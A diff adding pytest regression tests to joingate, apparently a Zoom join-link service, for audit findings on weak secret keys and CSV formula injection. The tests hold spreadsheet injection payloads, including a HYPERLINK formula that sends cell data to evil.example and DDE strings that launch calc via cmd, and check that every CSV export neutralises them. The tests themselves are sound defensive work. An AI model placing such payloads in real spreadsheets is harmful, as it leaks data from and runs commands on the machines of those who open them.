@@ -4,13 +4,19 @@ and so run on the embedded store (fakeredis) and on a real redis-server."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from click.testing import CliRunner
 
-from conftest import SECRET
+from conftest import SECRET, make_app
+from fake_zoom_api import FakeZoom
+from webhook_events import participant, sample, signed
 from joingate import create_app
 from joingate.cli import main as cli_main
 from joingate.errors import ConfigError
+from joingate.exports import spreadsheet_cell
 
 
 # Finding 15: a weak SECRET_KEY was accepted (`x`, `changeme`).
@@ -36,3 +42,103 @@ def test_finding_15_keys_shorter_than_32_characters_stop_the_start(variable, val
 def test_finding_15_a_key_of_32_characters_starts():
     app = create_app(environ={"JOINGATE_SECRET_KEY": "k" * 32, "JOINGATE_REDIS_URL": "memory://"})
     assert app.config["JOINGATE"]["SECRET_KEY"] == "k" * 32
+
+
+# Finding 1: CSV formula injection. Every CSV joingate writes goes through one neutraliser.
+
+FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&F2,"x")',
+            "note": "+cmd|' /C calc'!A0", "zoom_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "tab": "\t=1+1", "lf": "\n=1+1", "minus": "-2+3"}
+SPREADSHEET_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def rows_of(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def assert_spreadsheet_safe(text: str) -> list[list[str]]:
+    """No cell of ``text`` starts a formula, and every link in it is a working gate link."""
+    rows = rows_of(text)
+    assert rows, text
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(SPREADSHEET_TRIGGERS), (cell, row)
+    return rows
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
+def test_finding_1_formula_cells_get_a_quote(cell):
+    assert spreadsheet_cell(cell) == "'" + cell
+    assert spreadsheet_cell("ana@example.org") == "ana@example.org"
+    assert spreadsheet_cell("https://gate.example.org/j/x") == "https://gate.example.org/j/x"
+    assert spreadsheet_cell(-1) == -1                              # numbers stay numbers
+
+
+def deliver(client, clock, body):
+    raw, headers = signed(body, int(clock()))
+    return client.post("/webhooks/zoom", data=raw, headers=headers)
+
+
+def test_finding_1_every_csv_writer_neutralises_formulas(app, store_url, clock, service,
+                                                          meeting, tmp_path):
+    roster = tmp_path / "people.csv"
+    roster.write_text("email,name,note\n"
+                      f"ana@example.org,\"{FORMULAS['name'].replace(chr(34), chr(34) * 2)}\","
+                      f"\"{FORMULAS['note']}\"\n"
+                      f"{FORMULAS['minus']}@example.org,Ben,\"{FORMULAS['tab']}\"\n"
+                      f"cy@example.org,Cy,\"{FORMULAS['lf']}\"\n")
+    cli = CliRunner()
+    issued = cli.invoke(cli_main, ["links", "issue", meeting, str(roster)], obj=app,
+                        catch_exceptions=False)
+    assert issued.exit_code == 0, issued.output
+    issue_rows = assert_spreadsheet_safe(issued.stdout)
+    assert issue_rows[0] == ["email", "name", "note", "link"]
+    assert issue_rows[1][:3] == ["ana@example.org", "'" + FORMULAS["name"],
+                                 "'" + FORMULAS["note"]]
+    assert issue_rows[2][0] == "'" + FORMULAS["minus"] + "@example.org"
+    assert issue_rows[2][2] == "'" + FORMULAS["tab"] and issue_rows[3][2] == "'" + FORMULAS["lf"]
+    link = issue_rows[1][3]
+    assert link.startswith("https://gate.example.org/j/")                  # links stay usable
+    assert app.test_client().post(link.removeprefix("https://gate.example.org")).status_code == 303
+
+    registration = sample("registration_created")
+    person = registration["payload"]["object"]["registrant"]
+    person.update(first_name='=HYPERLINK("http://evil.example/?"&A1', last_name='"x")',
+                  email="zed@example.org", id="zedZoomId")
+    assert deliver(app.test_client(), clock, registration).get_json() == {"status": "recorded"}
+    joined = participant("joined", user_id="u9", name=FORMULAS["zoom_name"],
+                         at="2026-12-01T18:01:00Z")
+    assert deliver(app.test_client(), clock, joined).get_json() == {"status": "recorded"}
+
+    exported = assert_spreadsheet_safe(cli.invoke(cli_main, ["links", "export", meeting],
+                                                  obj=app).stdout)
+    assert ["ana@example.org", "'" + FORMULAS["name"]] == exported[1][:2]
+    assert any(row[1].startswith("'=HYPERLINK") and row[0] == "zed@example.org"
+               for row in exported)
+    reported = assert_spreadsheet_safe(cli.invoke(cli_main, ["report", meeting], obj=app).stdout)
+    assert ["", "'" + FORMULAS["zoom_name"], "unmatched"] == reported[-1][:3]
+
+    api = make_app(store_url, clock, like=app, ADMIN_TOKEN="organizer-token").test_client()
+    bearer = {"Authorization": "Bearer organizer-token"}
+    for path in ("links.csv", "report.csv"):
+        answer = api.get(f"/api/v1/meetings/{meeting}/{path}", headers=bearer)
+        assert answer.status_code == 200
+        assert "'" + FORMULAS["name"] in assert_spreadsheet_safe(answer.get_data(as_text=True))[1]
+
+
+def test_finding_1_zoom_register_output_neutralises_formulas(app, store_url, clock, meeting,
+                                                              tmp_path):
+    zoom = FakeZoom()
+    zoom.add_meeting(meeting)
+    try:
+        zoom_app = make_app(store_url, clock, like=app, **zoom.settings())
+        roster = tmp_path / "people.csv"
+        roster.write_text(f"email,name\nana@example.org,\"{FORMULAS['note']}\"\n")
+        result = CliRunner().invoke(cli_main, ["zoom", "register", meeting, str(roster)],
+                                    obj=zoom_app, catch_exceptions=False)
+    finally:
+        zoom.close()
+    assert result.exit_code == 0, result.output
+    rows = assert_spreadsheet_safe(result.stdout)
+    assert rows[1][:2] == ["ana@example.org", "'" + FORMULAS["note"]]
+    assert rows[1][2].startswith("https://gate.example.org/j/")
